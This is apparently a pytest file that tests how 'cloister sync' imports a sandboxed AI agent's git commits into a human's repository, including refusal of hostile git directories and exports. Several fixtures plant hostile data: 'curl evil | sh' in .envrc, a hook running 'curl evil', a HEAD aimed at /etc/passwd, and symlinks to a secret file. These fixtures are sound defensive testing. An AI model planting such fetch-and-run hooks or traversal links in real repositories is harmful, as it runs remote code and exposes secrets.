"""``cloister sync`` on the host: the agent's commits into the human's repository.

A real human repository (on ``main``), a session record as ``cloister start`` writes it,
and the cloister's own git directory made by ``cloister_cli.repo.gitdirs.create``. The agent's
commits are made by running git on the host against that git directory (inside a
cloister the alternates file names ``/opt/cloister/origin/objects``; here
``GIT_ALTERNATE_OBJECT_DIRECTORIES`` stands in for that mount). The sync runs the real
export container (``cloister-git:latest``, built from this tree once per session) unless
a test is about what the host does with a hostile export, which a fake engine writes.
"""

from __future__ import annotations

import os
import secrets
import shutil
import subprocess
import tempfile
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import docker
import pytest
from docker.models.containers import Container
from docker.types import Mount

from cloister_cli.images.builds import (
    GIT_IMAGE,
    assemble_context,
    build_image,
    is_current,
    source_fingerprint,
)
from cloister_cli.repo import gitdirs
from cloister_core.owngit import EXPORT_OUTPUT, ORIGIN_OBJECTS, Head
from cloister_core.paths import CloisterPaths
from cloister_core.repository import HumanRepository
from cloister_core.sessions import SessionRecord, read_session, write_session
from cloister_core.stack import Instance
from cloister_executor.engine import ContainerSpec, Engine, Finished
from cloister_executor.gitsync import Syncer, SyncError, SyncOutcome
from tests.git_support import GIT, hermetic_git

ROOT = Path(__file__).resolve().parents[2]
LABEL = "org.cloister.test.gitsync"
SECRET = "SECRET-LINE password"


@pytest.fixture(autouse=True)
def _hermetic(monkeypatch: pytest.MonkeyPatch) -> None:
    hermetic_git(monkeypatch)


@pytest.fixture(scope="session")
def git_image(docker_client: docker.DockerClient) -> str:
    """``cloister-git:latest`` as this tree builds it (rebuilt only when it differs)."""
    fingerprint = source_fingerprint(ROOT, GIT_IMAGE)
    if not is_current(docker_client, GIT_IMAGE.tag, fingerprint):
        with tempfile.TemporaryDirectory(prefix="cloister-test-git-image-") as scratch:
            context = assemble_context(
                ROOT, GIT_IMAGE, Path(scratch) / "context", docker_client.info()["Architecture"]
            )
            build_image(docker_client, context, GIT_IMAGE.tag, fingerprint=fingerprint)
    return GIT_IMAGE.tag


def git(
    *args: str,
    cwd: Path | None = None,
    env: Mapping[str, str] | None = None,
    input: bytes | None = None,
    check: bool = True,
) -> str:
    """Git as the test's own step (the human, or the agent with *env*)."""
    result = subprocess.run(
        [GIT, *args],
        cwd=cwd,
        env=dict(os.environ) | dict(env or {}),
        input=input,
        capture_output=True,
        check=False,
    )
    if check and result.returncode != 0:
        raise AssertionError(f"git {args} failed: {result.stderr.decode(errors='replace')}")
    return result.stdout.decode("utf-8", "surrogateescape").strip()


@dataclass
class World:
    """The human's repository, a cloister's git directory and its session record."""

    root: Path
    repo: Path
    paths: CloisterPaths
    cloister: str
    worktree: Path
    git_dir: Path
    session: SessionRecord

    # -- the human -------------------------------------------------------------------------
    def human(self, *args: str, check: bool = True) -> str:
        return git("-C", str(self.repo), *args, check=check)

    def human_commit(self, name: str, text: str, message: str) -> str:
        (self.repo / name).write_text(text, encoding="utf-8")
        self.human("add", name)
        self.human("commit", "-q", "-m", message)
        return self.human("rev-parse", "HEAD")

    def own_refs(self) -> dict[str, str]:
        """The human's refs, refs/cloister/ left out."""
        output = self.human("for-each-ref", "--format=%(objectname) %(refname)")
        pairs = (line.partition(" ") for line in output.splitlines())
        return {name: oid for oid, _, name in pairs if not name.startswith("refs/cloister/")}

    def agent_refs(self) -> dict[str, str]:
        prefix = f"refs/cloister/{self.cloister}/"
        output = self.human("for-each-ref", "--format=%(objectname) %(refname)", prefix)
        return {
            name.removeprefix(prefix): oid
            for oid, _, name in (line.partition(" ") for line in output.splitlines())
        }

    def has_object(self, oid: str) -> bool:
        command = [GIT, "-C", str(self.repo), "cat-file", "-e", oid]
        return subprocess.run(command, capture_output=True, check=False).returncode == 0

    def fsck(self) -> None:
        git("-C", str(self.repo), "fsck", "--no-dangling", "--no-progress")

    # -- the agent -------------------------------------------------------------------------
    @property
    def agent_env(self) -> dict[str, str]:
        return {"GIT_ALTERNATE_OBJECT_DIRECTORIES": str(self.repo / ".git" / "objects")}

    def agent(self, *args: str, input: bytes | None = None) -> str:
        return git(
            f"--git-dir={self.git_dir}",
            f"--work-tree={self.worktree}",
            *args,
            cwd=self.worktree,
            env=self.agent_env,
            input=input,
        )

    def agent_commit(self, name: str, text: str, message: str) -> str:
        path = self.worktree / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        self.agent("add", name)
        self.agent("commit", "-q", "-m", message)
        return self.agent("rev-parse", "HEAD")

    def agent_tree_commit(self, tree: str, message: str, parent: str = "HEAD") -> str:
        return self.agent("commit-tree", tree, "-p", parent, "-m", message)

    # -- the sync --------------------------------------------------------------------------
    def record(self, **changes: Any) -> None:
        self.session = self.session.model_copy(update=changes)
        write_session(self.paths, self.session)

    def syncer(self, engine: Engine | None = None, *, fast_forward: bool = True) -> Syncer:
        return Syncer(self.paths, engine or Engine(None), fast_forward=fast_forward)

    def sync(
        self,
        engine: Engine | None = None,
        *,
        fast_forward: bool = True,
        ready: Callable[[], None] | None = None,
        **options: bool,
    ) -> SyncOutcome:
        outcome = self.syncer(engine, fast_forward=fast_forward).sync(
            self.cloister, running=options.pop("running", False), ready=ready, **options
        )
        self.assert_no_scratch()
        return outcome

    def sync_error(self, engine: Engine | None = None) -> str:
        with pytest.raises(SyncError) as caught:
            self.sync(engine)
        self.assert_no_scratch()
        return str(caught.value)

    def assert_no_scratch(self) -> None:
        left = [path.name for path in self.paths.git_dirs_dir.iterdir()]
        assert not [name for name in left if name.startswith(".sync-")], left


def make_world(
    root: Path,
    *,
    cloister: str = "demo",
    branch: str | None = None,
    protected: Sequence[str] = (),
    prepare: Callable[[Path], None] | None = None,
    object_format: str = "sha1",
    shared_from: Path | None = None,
) -> World:
    """A repository on main with one commit (and whatever *prepare* adds), and a cloister
    working in it (*branch* None) or in a worktree of its own on *branch*.

    *shared_from*: the repository is a ``clone --shared`` of that one (its objects are
    borrowed through an alternates file of the human's own).
    """
    repo = root / "repo"
    if shared_from is not None:
        git("clone", "-q", "--shared", str(shared_from), str(repo))
    else:
        repo.mkdir(parents=True)
        git("-C", str(repo), "init", "-q", "-b", "main", f"--object-format={object_format}")
        (repo / "README").write_text("hello\n", encoding="utf-8")
        git("-C", str(repo), "add", "README")
        git("-C", str(repo), "commit", "-q", "-m", "first")
    if prepare is not None:
        prepare(repo)
    paths = CloisterPaths(config_dir=root / "config", data_dir=root / "data")
    worktree = repo
    if branch is not None:
        worktree = root / "data" / "worktrees" / "demo" / branch.replace("/", "-")
        worktree.mkdir(parents=True)
    repository = HumanRepository.of(repo)
    own = gitdirs.create(paths, cloister, repository, worktree=worktree, branch=branch)
    session = SessionRecord(
        cloister=cloister,
        project="demo",
        worktree=str(worktree),
        checkout=str(repo),
        common_dir=str(repo / ".git"),
        branch=branch,
        started_at=datetime.now(UTC),
        bases=own.bases,
        host_heads=own.host_heads,
        protected=tuple(protected),
    )
    write_session(paths, session)
    return World(root, repo, paths, cloister, worktree, own.path, session)


@pytest.fixture
def world(tmp_path: Path, git_image: str) -> World:
    del git_image
    return make_world(tmp_path)


def assert_clean_checkout(world: World) -> None:
    assert world.human("status", "--porcelain") == ""
    assert world.human("diff", "--cached", "--name-only") == ""


# --- the agent's work comes back ---------------------------------------------------------------


@pytest.mark.docker
def test_new_commits_fast_forward_the_checked_out_branch(world: World) -> None:
    old = world.human("rev-parse", "main")
    first = world.agent_commit("new.txt", "from the agent\n", "agent: new file")
    second = world.agent_commit("src/more.txt", "more\n", "agent: more")
    outcome = world.sync()
    assert outcome.head == Head(branch="main")
    assert outcome.imported == {"main": second}
    assert outcome.fast_forwarded == ("main", old, second)
    assert world.human("rev-parse", "main") == second
    assert world.human("rev-parse", "main~1") == first
    assert world.agent_refs() == {"main": second}
    assert_clean_checkout(world)  # the index came along; the files were there already
    world.fsck()
    objects = world.repo / ".git" / "objects"
    assert not list(objects.glob("cloister-incoming-*"))  # the quarantine is gone
    assert not list(objects.glob("pack/*.keep"))  # refs hold the objects now
    assert not list(objects.glob("pack/tmp_*"))
    session = read_session(world.paths, world.cloister)
    assert session is not None
    assert session.bases["main"] == second
    assert session.synced_at is not None
    assert any("fast-forwarded" in line for line in outcome.lines())
    # Nothing new: nothing changes.
    again = world.sync()
    assert not again.changed
    assert again.notes == []
    assert world.human("rev-parse", "main") == second


@pytest.mark.docker
def test_the_human_keeps_what_is_unstaged_in_other_files(world: World) -> None:
    (world.repo / "README").write_text("the human is editing this\n", encoding="utf-8")
    new = world.agent_commit("new.txt", "x\n", "agent")
    outcome = world.sync()
    assert outcome.fast_forwarded is not None
    assert world.human("rev-parse", "main") == new
    assert world.human("status", "--porcelain") == "M README"
    assert (world.repo / "README").read_text(encoding="utf-8") == "the human is editing this\n"


@pytest.mark.docker
def test_a_new_branch_lands_under_refs_cloister_and_a_deleted_one_goes(world: World) -> None:
    before = world.own_refs()
    main = world.agent("rev-parse", "HEAD")
    tree = world.agent("rev-parse", "HEAD^{tree}")
    topic = world.agent_tree_commit(tree, "agent: on a topic")
    world.agent("update-ref", "refs/heads/feature/topic", topic)
    world.agent("branch", "plain")
    outcome = world.sync()
    assert outcome.imported == {"main": main, "feature/topic": topic, "plain": main}
    assert world.agent_refs() == {"main": main, "feature/topic": topic, "plain": main}
    assert world.own_refs() == before  # no branch of the human's made or moved
    assert outcome.fast_forwarded is None
    world.agent("branch", "-D", "feature/topic")
    outcome = world.sync()
    assert outcome.removed == ["feature/topic"]
    assert outcome.imported == {}
    assert world.agent_refs() == {"main": main, "plain": main}
    assert "refs/cloister/demo/feature/topic removed" in outcome.lines()
    world.fsck()


@pytest.mark.docker
def test_a_branch_and_one_under_its_name_swap_in_one_sync(world: World) -> None:
    """``a`` going and ``a/b`` coming cannot share one ref transaction."""
    world.agent("branch", "a")
    world.sync()
    world.agent("branch", "-D", "a")
    world.agent("branch", "a/b")
    outcome = world.sync()
    assert outcome.removed == ["a"]
    assert set(world.agent_refs()) == {"main", "a/b"}


@pytest.mark.docker
def test_no_fast_forward_when_the_human_committed_meanwhile(world: World) -> None:
    human = world.human_commit("human.txt", "mine\n", "human: meanwhile")
    agent = world.agent_commit("agent.txt", "theirs\n", "agent: work")
    outcome = world.sync()
    assert outcome.fast_forwarded is None
    assert world.human("rev-parse", "main") == human
    assert world.agent_refs()["main"] == agent
    assert (
        "the agent's main is refs/cloister/demo/main; to take it: git merge"
        " refs/cloister/demo/main" in outcome.notes
    )
    world.fsck()


@pytest.mark.docker
def test_no_fast_forward_when_something_is_staged(world: World) -> None:
    old = world.human("rev-parse", "main")
    (world.repo / "staged.txt").write_text("the human's\n", encoding="utf-8")
    world.human("add", "staged.txt")
    world.agent_commit("agent.txt", "theirs\n", "agent: work")
    outcome = world.sync()
    assert outcome.fast_forwarded is None
    assert world.human("rev-parse", "main") == old
    assert any("you have staged changes" in note for note in outcome.notes), outcome.notes
    assert world.human("diff", "--cached", "--name-only") == "staged.txt"
    assert not (world.repo / ".git" / "index.lock").exists()


@pytest.mark.docker
def test_no_fast_forward_when_git_is_busy(world: World) -> None:
    old = world.human("rev-parse", "main")
    lock = world.repo / ".git" / "index.lock"
    lock.write_bytes(b"")
    world.agent_commit("agent.txt", "theirs\n", "agent: work")
    outcome = world.sync()
    assert outcome.fast_forwarded is None
    assert world.human("rev-parse", "main") == old
    assert any("index.lock exists" in note for note in outcome.notes), outcome.notes
    assert lock.exists()  # git's lock, not ours: left alone


@pytest.mark.docker
def test_no_fast_forward_when_switched_off(world: World) -> None:
    old = world.human("rev-parse", "main")
    agent = world.agent_commit("agent.txt", "theirs\n", "agent: work")
    outcome = world.sync(fast_forward=False)
    assert outcome.fast_forwarded is None
    assert world.human("rev-parse", "main") == old
    assert world.agent_refs()["main"] == agent
    assert any("git merge refs/cloister/demo/main" in note for note in outcome.notes)


@pytest.mark.docker
def test_no_fast_forward_when_the_agent_works_on_another_branch(world: World) -> None:
    old = world.human("rev-parse", "main")
    world.agent("checkout", "-q", "-b", "side")
    side = world.agent_commit("side.txt", "side\n", "agent: side")
    outcome = world.sync()
    assert outcome.head == Head(branch="side")
    assert outcome.fast_forwarded is None
    assert world.human("rev-parse", "main") == old
    assert world.agent_refs()["side"] == side
    assert "refs/heads/side" not in world.own_refs()


@pytest.mark.docker
def test_no_fast_forward_over_a_rewritten_branch(world: World) -> None:
    old = world.human("rev-parse", "main")
    tree = world.agent("rev-parse", "HEAD^{tree}")
    orphan = world.agent("commit-tree", tree, "-m", "agent: history rewritten")
    world.agent("update-ref", "refs/heads/main", orphan)
    outcome = world.sync()
    assert outcome.fast_forwarded is None
    assert world.human("rev-parse", "main") == old
    assert world.agent_refs()["main"] == orphan


def _gitlink(world: World) -> None:
    commit = world.agent("rev-parse", "HEAD")
    world.agent("update-index", "--add", "--cacheinfo", f"160000,{commit},sub")
    world.agent("commit", "-q", "-m", "agent: a gitlink")


def _gitmodules(world: World) -> None:
    world.agent_commit(".gitmodules", '[submodule "x"]\n\tpath = x\n\turl = ../x\n', "agent")


def _protected(world: World) -> None:
    # .envrc is read-only inside; the agent's own index can still hold a change to it.
    blob = world.agent("hash-object", "-w", "--stdin", input=b"curl evil | sh\n")
    world.agent("update-index", "--add", "--cacheinfo", f"100644,{blob},.envrc")
    world.agent("commit", "-q", "-m", "agent: .envrc")


def _protected_directory(world: World) -> None:
    blob = world.agent("hash-object", "-w", "--stdin", input=b"#!/bin/sh\ncurl evil\n")
    world.agent("update-index", "--add", "--cacheinfo", f"100755,{blob},.husky/pre-commit")
    world.agent("commit", "-q", "-m", "agent: a hook")


@pytest.mark.docker
@pytest.mark.parametrize(
    ("change", "said"),
    [
        (_gitlink, "adds a gitlink at 'sub'"),
        (_gitmodules, "changes .gitmodules"),
        (_protected, "changes '.envrc', a protected path"),
        (_protected_directory, "changes '.husky/pre-commit', a protected path"),
    ],
    ids=["gitlink", "gitmodules", "protected", "protected-directory"],
)
def test_hazards_need_a_yes(
    tmp_path: Path, git_image: str, change: Callable[[World], None], said: str
) -> None:
    del git_image
    world = make_world(tmp_path, protected=(".envrc", ".husky"))
    old = world.human("rev-parse", "main")
    change(world)
    new = world.agent("rev-parse", "HEAD")
    outcome = world.sync()
    assert outcome.fast_forwarded is None
    assert world.human("rev-parse", "main") == old
    assert world.agent_refs()["main"] == new
    (note,) = [note for note in outcome.notes if "was not fast-forwarded" in note]
    assert said in note
    assert "--yes" in note
    assert f"git log -p main..refs/cloister/{world.cloister}/main" in note
    outcome = world.sync(assume_yes=True)
    assert outcome.fast_forwarded == ("main", old, new)
    assert world.human("rev-parse", "main") == new
    world.fsck()


@pytest.mark.docker
def test_a_sha256_repository(tmp_path: Path, git_image: str) -> None:
    del git_image
    world = make_world(tmp_path, object_format="sha256")
    old = world.human("rev-parse", "main")
    assert len(old) == 64
    new = world.agent_commit("new.txt", "agent\n", "agent")
    outcome = world.sync()
    assert outcome.fast_forwarded == ("main", old, new)
    assert world.agent_refs() == {"main": new}
    world.fsck()


@pytest.mark.docker
def test_a_repository_that_borrows_objects_of_another(tmp_path: Path, git_image: str) -> None:
    """The human's own alternates are mounted into the export too (read-only)."""
    del git_image
    origin = tmp_path / "origin"
    origin.mkdir()
    git("-C", str(origin), "init", "-q", "-b", "main")
    (origin / "big.txt").write_text("borrowed\n", encoding="utf-8")
    git("-C", str(origin), "add", "big.txt")
    git("-C", str(origin), "commit", "-q", "-m", "in the other repository only")
    world = make_world(tmp_path / "world", shared_from=origin)
    assert (world.repo / ".git" / "objects" / "info" / "alternates").is_file()
    old = world.human("rev-parse", "main")
    new = world.agent_commit("new.txt", "agent\n", "agent")
    outcome = world.sync()
    assert outcome.fast_forwarded == ("main", old, new)
    assert_clean_checkout(world)
    world.fsck()
    # Only the agent's new objects were taken in; the borrowed ones stay borrowed.
    count = git("-C", str(world.repo), "count-objects", "-v")
    assert "in-pack: 3" in count.splitlines(), count  # the commit, its tree, new.txt


# --- a worktree cloister -------------------------------------------------------------------------


def _feature_branch(repo: Path) -> None:
    git("-C", str(repo), "branch", "feature")


@pytest.mark.docker
def test_a_worktree_cloister_fast_forwards_its_branch(tmp_path: Path, git_image: str) -> None:
    del git_image
    world = make_world(tmp_path, branch="feature", prepare=_feature_branch)
    assert (world.worktree / "README").read_text(encoding="utf-8") == "hello\n"
    main = world.human("rev-parse", "main")
    old = world.human("rev-parse", "feature")
    new = world.agent_commit("feature.txt", "agent\n", "agent: feature")
    outcome = world.sync()
    assert outcome.head == Head(branch="feature")
    assert outcome.fast_forwarded == ("feature", old, new)
    assert world.human("rev-parse", "feature") == new
    assert world.human("rev-parse", "main") == main
    assert_clean_checkout(world)  # the human's checkout (on main) is untouched
    assert not (world.repo / "feature.txt").exists()
    world.fsck()


@pytest.mark.docker
def test_a_worktree_cloister_leaves_a_branch_checked_out_in_the_checkout(
    tmp_path: Path, git_image: str
) -> None:
    del git_image
    world = make_world(tmp_path, branch="feature", prepare=_feature_branch)
    world.human("checkout", "-q", "feature")
    old = world.human("rev-parse", "feature")
    world.agent_commit("feature.txt", "agent\n", "agent: feature")
    outcome = world.sync()
    assert outcome.fast_forwarded is None
    assert world.human("rev-parse", "feature") == old
    assert any(
        f"your feature is checked out in {world.repo}: not fast-forwarded" in note
        for note in outcome.notes
    ), outcome.notes
    assert_clean_checkout(world)


@pytest.mark.docker
def test_a_worktree_cloister_on_a_new_branch(tmp_path: Path, git_image: str) -> None:
    """A branch the human does not have: made in the human's repository by the sync."""
    del git_image
    world = make_world(tmp_path, branch="fresh")
    world.agent("read-tree", "main")  # what `cloister start -b fresh` starts from
    world.agent("checkout-index", "-a")
    new = world.agent_commit("fresh.txt", "agent\n", "agent: fresh")
    outcome = world.sync()
    assert outcome.imported["fresh"] == new
    assert outcome.fast_forwarded == ("fresh", None, new)
    assert world.human("rev-parse", "fresh") == new


# --- a running cloister: its branches follow the human's ---------------------------------------


@pytest.fixture
def running_world(
    tmp_path: Path, docker_client: docker.DockerClient, git_image: str
) -> Iterator[tuple[World, Container]]:
    """A cloister whose container runs (the git image, asleep): its name is unique, so
    ``cloister-<instance>-<name>`` is never a container of anyone else."""
    world = make_world(tmp_path, cloister=f"synctest-{secrets.token_hex(4)}")
    container: Container = docker_client.containers.run(
        git_image,
        ["infinity"],
        entrypoint=["sleep"],
        detach=True,
        name=Instance.of(world.paths, os.getuid()).cloister(world.cloister),
        labels={LABEL: world.cloister},
        network_mode="none",
        user="0:0",
        working_dir="/work",
        mounts=[
            Mount("/work", str(world.repo), type="bind"),
            Mount("/work/.git", str(world.git_dir), type="bind"),
            Mount(
                ORIGIN_OBJECTS, str(world.repo / ".git" / "objects"), type="bind", read_only=True
            ),
        ],
        environment={"HOME": "/tmp", "GIT_CONFIG_NOSYSTEM": "1"},
    )
    try:
        yield world, container
    finally:
        container.remove(force=True)


def inside(container: Container, *argv: str) -> str:
    result = container.exec_run(list(argv), workdir="/work")
    assert isinstance(result.output, bytes)
    output = result.output.decode("utf-8", "replace").strip()
    assert result.exit_code == 0, output
    return output


@pytest.mark.docker
def test_a_running_cloister_follows_the_humans_branches(
    running_world: tuple[World, Container],
) -> None:
    world, container = running_world
    world.human("branch", "other")
    world.sync(running=True)
    assert inside(container, "git", "rev-parse", "refs/remotes/host/other") == world.human(
        "rev-parse", "other"
    )
    # The human moves main (checked out in the shared work tree) and other; the agent
    # left both alone.
    new_main = world.human_commit("human.txt", "mine\n", "human: main")
    world.human("update-ref", "refs/heads/other", new_main)
    outcome = world.sync(running=True)
    assert outcome.to_cloister == {"main": new_main, "other": new_main}
    assert inside(container, "git", "rev-parse", "main", "other").split() == [new_main] * 2
    assert inside(container, "git", "rev-parse", "refs/remotes/host/main") == new_main
    # The cloister's index came along with its main: nothing staged there.
    assert inside(container, "git", "diff", "--cached", "--name-only") == ""
    session = read_session(world.paths, world.cloister)
    assert session is not None
    assert session.bases["main"] == new_main
    assert session.host_heads == {"main": new_main, "other": new_main}
    # And the agent's next commit fast-forwards the human's main again.
    (world.repo / "agent.txt").write_text("agent\n", encoding="utf-8")
    inside(container, "git", "add", "agent.txt")
    inside(
        container, "git", "-c", "user.name=A", "-c", "user.email=a@example.invalid",
        "commit", "-q", "-m", "agent",
    )  # fmt: skip
    agent = inside(container, "git", "rev-parse", "HEAD")
    outcome = world.sync(running=True)
    assert outcome.fast_forwarded == ("main", new_main, agent)
    assert_clean_checkout(world)
    world.fsck()


@pytest.mark.docker
def test_a_stopped_cloister_is_synced_without_its_container(world: World) -> None:
    """running=False: nothing is run inside (there is no container ``cloister-demo`` of
    this test; the sync must not look for one)."""
    old = world.human("rev-parse", "main")
    world.human_commit("human.txt", "mine\n", "human")
    outcome = world.sync(engine=RecordingEngine())
    assert outcome.to_cloister == {}
    assert world.agent("rev-parse", "main") == old
    session = read_session(world.paths, world.cloister)
    assert session is not None
    assert session.bases["main"] == old  # where both still agree
    assert session.host_heads == world.session.host_heads  # nothing mirrored inside


class RecordingEngine(Engine):
    """The real engine for the export; any exec is a test failure."""

    def __init__(self) -> None:
        super().__init__(None)

    def exec(
        self, container: str, argv: Sequence[str], *, timeout: float, workdir: str = "/work"
    ) -> int | None:
        raise AssertionError(f"exec in {container}: {argv}")


# --- hostile git directories ---------------------------------------------------------------------


def _deleted(world: World, secret: Path) -> None:
    shutil.rmtree(world.git_dir)


def _a_link(world: World, secret: Path) -> None:
    shutil.rmtree(world.git_dir)
    world.git_dir.symlink_to(world.repo / ".git")


def _emptied(world: World, secret: Path) -> None:
    shutil.rmtree(world.git_dir)
    world.git_dir.mkdir()


def _head_garbage(world: World, secret: Path) -> None:
    (world.git_dir / "HEAD").write_text("ref: ../../../../etc/passwd\n", encoding="utf-8")


def _head_link(world: World, secret: Path) -> None:
    (world.git_dir / "HEAD").unlink()
    (world.git_dir / "HEAD").symlink_to(secret)


def _packed_refs_link(world: World, secret: Path) -> None:
    (world.git_dir / "packed-refs").unlink()
    (world.git_dir / "packed-refs").symlink_to(secret)


def _ref_link(world: World, secret: Path) -> None:
    (world.git_dir / "refs" / "heads" / "stolen").symlink_to(secret)


def _missing_object(world: World, secret: Path) -> None:
    with (world.git_dir / "packed-refs").open("a", encoding="utf-8") as file:
        file.write(f"{'1234567890' * 4} refs/heads/broken\n")


def _alternates_elsewhere(world: World, secret: Path) -> None:
    private = world.root / "private"
    private.mkdir()
    git("-C", str(private), "init", "-q")
    (private / "private.txt").write_text(f"{SECRET}\n", encoding="utf-8")
    git("-C", str(private), "add", "private.txt")
    git("-C", str(private), "commit", "-q", "-m", "private")
    oid = git("-C", str(private), "rev-parse", "HEAD")
    (world.git_dir / "objects" / "info" / "alternates").write_text(
        f"{private / '.git' / 'objects'}\n", encoding="utf-8"
    )
    with (world.git_dir / "packed-refs").open("a", encoding="utf-8") as file:
        file.write(f"{oid} refs/heads/private\n")
    (world.root / "private-oid").write_text(oid, encoding="utf-8")


def _tree_entry(name: bytes) -> Callable[[World, Path], None]:
    def plant(world: World, secret: Path) -> None:
        blob = world.agent("hash-object", "-w", "--stdin", input=b"x\n")
        raw = b"100644 " + name + b"\0" + bytes.fromhex(blob)
        tree = world.agent("hash-object", "-t", "tree", "--literally", "-w", "--stdin", input=raw)
        commit = world.agent_tree_commit(tree, "agent: a hostile tree")
        world.agent("update-ref", "refs/heads/evil", commit)
        (world.root / "evil-oid").write_text(commit, encoding="utf-8")

    return plant


UNREADABLE = "the cloister's git directory could not be read (exit 128)"


@pytest.mark.docker
@pytest.mark.parametrize(
    ("plant", "said"),
    [
        (_deleted, "has no git directory"),
        (_a_link, "has no git directory"),
        (_emptied, UNREADABLE),
        (_head_garbage, UNREADABLE),
        (_head_link, UNREADABLE),
        # Links name nothing inside the export container: no ref, nothing changes.
        (_packed_refs_link, None),
        (_ref_link, None),
        (_missing_object, "not our ref 1234567890"),
        (_alternates_elsewhere, "not our ref"),
        (_tree_entry(b".."), "hasDotdot"),
        (_tree_entry(b".git"), "hasDotgit"),
        (_tree_entry(b".GIT"), "hasDotgit"),
    ],
    ids=[
        "deleted",
        "a-link",
        "emptied",
        "head-garbage",
        "head-link",
        "packed-refs-link",
        "ref-link",
        "missing-object",
        "alternates-elsewhere",
        "tree-dotdot",
        "tree-dotgit",
        "tree-dotgit-case",
    ],
)
def test_a_hostile_git_directory_changes_nothing_of_the_humans(
    world: World, plant: Callable[[World, Path], None], said: str | None
) -> None:
    secret = world.root / "secret"
    secret.write_text(f"{SECRET}\n", encoding="utf-8")
    world.agent_commit("good.txt", "good\n", "agent: good work first")
    good = world.sync()
    assert good.fast_forwarded is not None
    before = world.own_refs()
    imported = world.agent_refs()
    index = (world.repo / ".git" / "index").read_bytes()
    plant(world, secret)
    if said is None:
        outcome = world.sync()
        assert not outcome.changed, outcome
        assert outcome.notes == []
        message = "\n".join(outcome.lines())
    else:
        message = world.sync_error()
        assert said in message
    assert SECRET not in message
    assert "password" not in message
    assert world.own_refs() == before
    assert world.agent_refs() == imported
    assert (world.repo / ".git" / "index").read_bytes() == index
    for name in ("private-oid", "evil-oid"):
        marker = world.root / name
        if marker.exists():
            assert not world.has_object(marker.read_text(encoding="utf-8"))
    world.fsck()
    world.assert_no_scratch()


@pytest.mark.docker
def test_a_missing_image_is_said(tmp_path: Path, git_image: str) -> None:
    del git_image
    world = make_world(tmp_path)

    class NoImage(Engine):
        def image_exists(self, image: str) -> bool:
            return False

    message = world.sync_error(NoImage(None))
    assert "cloister-git:latest is missing" in message


def test_a_cloister_without_a_session_or_git_is_a_sync_error(tmp_path: Path) -> None:
    paths = CloisterPaths(config_dir=tmp_path / "config", data_dir=tmp_path / "data")
    with pytest.raises(SyncError, match="has no git directory to sync"):
        Syncer(paths, Engine(None)).sync("nobody", running=False)
    write_session(
        paths,
        SessionRecord(
            cloister="plain",
            project="plain",
            worktree=str(tmp_path),
            started_at=datetime.now(UTC),
        ),
    )
    with pytest.raises(SyncError, match="has no git directory to sync"):
        Syncer(paths, Engine(None)).sync("plain", running=False)


# --- what the host does with a hostile export (a fake engine writes it) ------------------------


class FakeExport(Engine):
    """An engine whose "export container" writes what the test says into /out, as a
    compromised git in there could."""

    def __init__(self, write: Callable[[Path], None]) -> None:
        super().__init__(None)
        self.write = write

    def image_exists(self, image: str) -> bool:
        return True

    def run(self, spec: ContainerSpec, *, timeout: float) -> Finished:
        (out,) = [bind.source for bind in spec.binds if bind.target == EXPORT_OUTPUT]
        self.write(Path(out))
        return Finished(0, "")

    def exec(
        self, container: str, argv: Sequence[str], *, timeout: float, workdir: str = "/work"
    ) -> int | None:
        raise AssertionError("no exec in these tests")


@pytest.fixture
def plain_world(tmp_path: Path) -> World:
    return make_world(tmp_path)


def _export_of(world: World, refs: bytes, head: bytes = b"refs/heads/main\n") -> FakeExport:
    def write(out: Path) -> None:
        (out / "refs").write_bytes(refs)
        (out / "head").write_bytes(head)

    return FakeExport(write)


def _pack_of(git_dir: Path, *revisions: str, env: Mapping[str, str] | None = None) -> bytes:
    """A pack of what *revisions* reach (``^X`` excluded), as git would send it."""
    return subprocess.run(
        [GIT, f"--git-dir={git_dir}", "pack-objects", "--stdout", "--revs"],
        input="".join(f"{revision}\n" for revision in revisions).encode(),
        env=dict(os.environ) | dict(env or {}),
        capture_output=True,
        check=True,
    ).stdout


def test_a_valid_fake_export_is_taken_in(plain_world: World) -> None:
    """The fake engine is faithful enough: a pack and ref list the host accepts."""
    world = plain_world
    new = world.agent_commit("new.txt", "agent\n", "agent")
    old = world.human("rev-parse", "main")
    pack = _pack_of(world.git_dir, new, f"^{old}", env=world.agent_env)

    def write(out: Path) -> None:
        (out / "refs").write_bytes(f"{new} refs/agent/main\n".encode())
        (out / "head").write_bytes(b"refs/heads/main\n")
        (out / "pack").write_bytes(pack)

    outcome = world.sync(FakeExport(write))
    assert outcome.fast_forwarded is not None
    assert world.human("rev-parse", "main") == new
    world.fsck()


def test_ready_is_called_once_before_the_export_container(plain_world: World) -> None:
    """``cloister stop`` holds the sync there until its cloister is dead."""
    world = plain_world
    new = world.agent_commit("new.txt", "agent\n", "agent")
    old = world.human("rev-parse", "main")
    pack = _pack_of(world.git_dir, new, f"^{old}", env=world.agent_env)
    order: list[str] = []

    def write(out: Path) -> None:
        order.append("export")
        (out / "refs").write_bytes(f"{new} refs/agent/main\n".encode())
        (out / "head").write_bytes(b"refs/heads/main\n")
        (out / "pack").write_bytes(pack)

    outcome = world.sync(FakeExport(write), ready=lambda: order.append("ready"))
    assert order == ["ready", "export"]
    assert outcome.fast_forwarded is not None


def test_what_ready_raises_ends_the_sync_with_nothing_changed(plain_world: World) -> None:
    world = plain_world
    world.agent_commit("new.txt", "agent\n", "agent")
    before = world.human("rev-parse", "main")

    class GaveUpError(Exception):
        pass

    def ready() -> None:
        raise GaveUpError

    def write(out: Path) -> None:
        raise AssertionError("no export container once ready raised")

    with pytest.raises(GaveUpError):
        world.syncer(FakeExport(write)).sync(world.cloister, running=False, ready=ready)
    world.assert_no_scratch()
    assert world.human("rev-parse", "main") == before
    assert world.agent_refs() == {}
    # The lock is free again: the next sync takes it.
    assert not world.sync(_export_of(world, b"", b"refs/heads/main\n")).changed


@pytest.mark.parametrize(
    ("refs", "head", "said"),
    [
        (b"%(main)s refs/heads/main\n", b"refs/heads/main\n", "a ref outside refs/agent/"),
        (b"%(main)s\n", b"refs/heads/main\n", "not a ref line"),
        (b"xyz refs/agent/main\n", b"refs/heads/main\n", "not an object name"),
        (b"%(main)s refs/agent/main\n", b"not a commit\n", "not an object name"),
    ],
)
def test_a_hostile_ref_list_is_refused_whole(
    plain_world: World, refs: bytes, head: bytes, said: str
) -> None:
    world = plain_world
    before = world.own_refs()
    main = before["refs/heads/main"].encode()
    message = world.sync_error(_export_of(world, refs % {b"main": main}, head))
